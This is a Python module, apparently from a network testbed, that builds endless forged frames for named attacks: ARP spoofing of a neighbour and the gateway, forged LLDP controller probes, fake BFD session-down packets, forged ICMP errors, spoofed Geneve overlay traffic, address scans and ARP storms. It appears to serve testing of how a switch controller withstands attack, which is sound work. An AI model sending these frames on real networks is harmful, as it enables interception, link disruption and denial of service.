"""Endless frames of each attack that a host sends, for the process that sends them."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from ipaddress import IPv4Address, IPv4Network
from itertools import count

from evenweave_testbed.frames import GATEWAY_MAC, arp_frame, arp_request

_GATEWAY = bytes.fromhex(GATEWAY_MAC.replace(":", ""))
_ETHERTYPE_IPV4, _ETHERTYPE_LLDP = 0x0800, 0x88CC
_ICMP, _UDP = 1, 17
_REPLY = 2
_MANY = 1 << 16
# LLDP's group address of the nearest bridge, and the source of the controller's probes.
_NEAREST_BRIDGE, _PROBE_SOURCE = bytes.fromhex("0180c200000e"), b"\x02EW\x00\x00\x01"
# The Ethernet address and the IPv4 addresses of Open vSwitch's BFD packets (lib/bfd.c).
_BFD_ETHERNET = bytes.fromhex("002320000001")
_BFD_FROM, _BFD_TO = IPv4Address("169.254.1.1"), IPv4Address("169.254.1.0")
_BFD_PORT, _GENEVE_PORT = 3784, 6081


@dataclass(frozen=True)
class Place:
    """The attacker, and whom it attacks: a host of its own prefix and one of another. `link` is the
    end of a link whose probes it forges."""

    mac: str
    address: str
    prefix: str
    neighbour: str
    far: str
    link: tuple[str, int]


def arp(place: Place) -> Iterator[bytes]:
    """Claims the addresses of its neighbour and of the gateway, in requests and replies."""
    mac = _mac(place)
    victims = [IPv4Address(place.neighbour).packed, _gateway(place).packed]
    broadcast = b"\xff" * 6
    for number in count():
        claimed = victims[number % 2]
        if number & 2:
            yield arp_frame(broadcast, mac, _REPLY, claimed, mac, claimed)
        else:
            yield arp_request(mac, claimed, claimed)


def lldp(place: Place) -> Iterator[bytes]:
    """Probes of the controller's form that say they left a port of a link, badly signed."""
    switch, port = place.link
    fields = [(1, b"\x07" + switch.encode()), (2, b"\x07" + str(port).encode()), (3, b"\0\x04")]
    for number in count():
        ours = _PROBE_SOURCE[:3] + b"\x01" + struct.pack("!QI", number, 60) + bytes(32)
        frame = _NEAREST_BRIDGE + _PROBE_SOURCE + struct.pack("!H", _ETHERTYPE_LLDP)
        for kind, value in (*fields, (127, ours), (0, b"")):
            frame += struct.pack("!H", kind << 9 | len(value)) + value
        yield frame


def bfd(place: Place) -> Iterator[bytes]:
    """BFD packets that say that the session is down (RFC 5880, section 4.1), as Open vSwitch sends
    them, and as a router would send them to the gateway."""
    for number in count():
        session = struct.pack("!BBBBIIIII", 0x20, 0x40, 3, 24, number or 1, 0, 10**6, 10**6, 0)
        if number % 2:
            to, ends = _BFD_ETHERNET, (_BFD_FROM, _BFD_TO)
        else:
            to, ends = _GATEWAY, (IPv4Address(place.address), _gateway(place))
        yield _ipv4(to, _mac(place), *ends, _UDP, _udp(49152, _BFD_PORT, session), 255)


def icmp(place: Place) -> Iterator[bytes]:
    """Echo requests to the gateway, packets that expire, and forged errors about another's flow."""
    source, far = IPv4Address(place.address), IPv4Address(place.far)
    quoted = _ipv4(b"", b"", far, source, _UDP, _udp(1, 2, bytes(8)), 64)[2:]
    for number in count():
        echo = _checked(struct.pack("!BBHHH", 8, 0, 0, number % _MANY, 0) + bytes(8))
        too_big = _checked(struct.pack("!BBHHH", 3, 4, 0, 0, 576) + quoted)
        to, message, ttl = (
            (_gateway(place), echo, 64),
            (far, echo, 1),
            (far, too_big, 64),
        )[number % 3]
        yield _ipv4(_GATEWAY, _mac(place), source, to, _ICMP, message, ttl)


def overlay(place: Place) -> Iterator[bytes]:
    """Geneve with options of the edge to another host, each packet of another flow."""
    far = IPv4Address(place.far)
    for number in count():
        option = struct.pack("!HBBI", 0x0FF1, 1, 1, number % (1 << 32))
        geneve = struct.pack("!BBHI", 2, 0, 0x6558, 1 << 8) + option + bytes(34)
        packet = _udp(1024 + number % 60000, _GENEVE_PORT, geneve)
        yield _ipv4(_GATEWAY, _mac(place), IPv4Address(place.address), far, _UDP, packet, 64)


def scan(place: Place) -> Iterator[bytes]:
    """Packets to all addresses of its prefix in turn, which hardly any host has."""
    network = IPv4Network(place.prefix)
    source, segment = IPv4Address(place.address), _udp(4096, 33434, bytes(8))
    for number in count():
        to = network.network_address + number % network.num_addresses
        yield _ipv4(_GATEWAY, _mac(place), source, to, _UDP, segment, 64)


def storm(place: Place) -> Iterator[bytes]:
    """ARP requests, each of which goes to the controller, from ever other addresses."""
    network = IPv4Network(place.prefix)
    gateway = _gateway(place).packed
    for number in count():
        mac = b"\x02\x01" + struct.pack("!I", number % (1 << 32))
        sender = network.network_address + number % network.num_addresses
        yield arp_request(mac, sender.packed, gateway)


FRAMES: dict[str, Callable[[Place], Iterator[bytes]]] = {
    "arp": arp,
    "lldp": lldp,
    "bfd": bfd,
    "icmp": icmp,
    "overlay": overlay,
    "scan": scan,
    "storm": storm,
}
"""What is sent in each attack, by its name."""


def _mac(place: Place) -> bytes:
    return bytes.fromhex(place.mac.replace(":", ""))


def _gateway(place: Place) -> IPv4Address:
    return IPv4Network(place.prefix).network_address + 1


def _udp(source: int, destination: int, payload: bytes) -> bytes:
    """Without a checksum, which IPv4 allows."""
    return struct.pack("!HHHH", source, destination, 8 + len(payload), 0) + payload


def _ipv4(
    to: bytes,
    mac: bytes,
    source: IPv4Address,
    destination: IPv4Address,
    protocol: int,
    payload: bytes,
    ttl: int,
) -> bytes:
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, ttl, protocol, 0)
    header += source.packed + destination.packed
    header = header[:10] + _checksum(header) + header[12:]
    return to + mac + struct.pack("!H", _ETHERTYPE_IPV4) + header + payload


def _checked(icmp_message: bytes) -> bytes:
    return icmp_message[:2] + _checksum(icmp_message) + icmp_message[4:]


def _checksum(data: bytes) -> bytes:
    """RFC 1071, of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", 0xFFFF ^ total)
